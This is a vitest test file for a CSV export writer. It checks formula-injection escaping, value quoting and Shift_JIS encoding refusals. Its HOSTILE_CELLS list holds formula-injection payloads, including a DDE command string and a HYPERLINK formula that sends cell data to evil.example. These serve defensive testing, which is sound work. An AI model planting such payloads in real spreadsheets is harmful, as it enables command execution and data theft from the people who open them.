import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import iconv from 'iconv-lite';
import { csvLine, csvShiftJis, csvText, startsLikeFormula, startsLikeFormulaBytes } from './csv.ts';
import { OnshiError } from './errors.ts';

export const HOSTILE_CELLS = ['=1+1', '@2', "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1', '-1', '\t=1', '\r=1', '＝1+1', '＠SUM(A1)'];

describe('the one CSV writer', () => {
  it('prefixes every string cell that starts like a formula with a single quote', () => {
    const line = csvLine(HOSTILE_CELLS);
    const [read] = parse(line) as string[][];
    expect(read).toEqual(HOSTILE_CELLS.map((v) => `'${v}`));
  });

  it('writes numbers as numbers (a negative number is not a formula) and leaves plain text alone', () => {
    expect(csvLine([-5, 3.5, 'a-b', '山田 太郎', '', null, undefined, '2024-04-01'])).toBe('-5,3.5,a-b,山田 太郎,,,,2024-04-01\n');
  });

  it('quotes commas, quotes, CR and LF; CRLF lines on request', () => {
    expect(csvText([['a,b', 'x"y', 'l\nf', 'c\rr']], { eol: '\r\n' })).toBe('"a,b","x""y","l\nf","c\rr"\r\n');
    expect(csvLine(['=a,b'])).toBe('"\'=a,b"\n');
  });

  it('startsLikeFormulaBytes agrees with startsLikeFormula and with the writer (property)', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.constantFrom(...HOSTILE_CELLS), fc.string({ unit: 'grapheme' })), (s) => {
        const b = Buffer.from(s, 'utf8');
        expect(startsLikeFormulaBytes(b, 0, b.length)).toBe(startsLikeFormula(s));
        const [[cell]] = parse(csvLine([s, 'x']), { relax_quotes: true }) as string[][];
        expect(cell).toBe(startsLikeFormula(s) ? `'${s}` : s);
      }),
      { numRuns: 1000 },
    );
  });

  it('Shift_JIS: written when every cell fits; else refused as a whole, listing rows and columns, never "?"', () => {
    const ok = csvShiftJis(['氏名', '住所'], [['髙橋　花子', '=1+1'], ['ｱｲｳ', 5]], { eol: '\r\n' });
    expect(iconv.decode(ok, 'cp932')).toBe("氏名,住所\r\n髙橋　花子,'=1+1\r\nｱｲｳ,5\r\n");
    let refusal: unknown;
    try {
      csvShiftJis(['氏名', '住所'], [['山田', '東京'], ['𠮷田', '😀'], ['鈴木', '大阪〜']]);
    } catch (e) {
      refusal = e;
    }
    expect(refusal).toBeInstanceOf(OnshiError);
    const e = refusal as OnshiError;
    expect(e.code).toBe('ONSHI_EXPORT_NOT_ENCODABLE');
    expect(e.status).toBe(422);
    expect(e.details).toMatchObject({ rows: [2, 3], rejectedRows: 2, errorsTruncated: false });
    expect((e.details!.errors as { field: string; code: string; en: string }[]).map((x) => `${x.field}:${x.code}`)).toEqual(['rows[2].氏名:not_encodable', 'rows[2].住所:not_encodable', 'rows[3].住所:not_encodable']);
  });
});
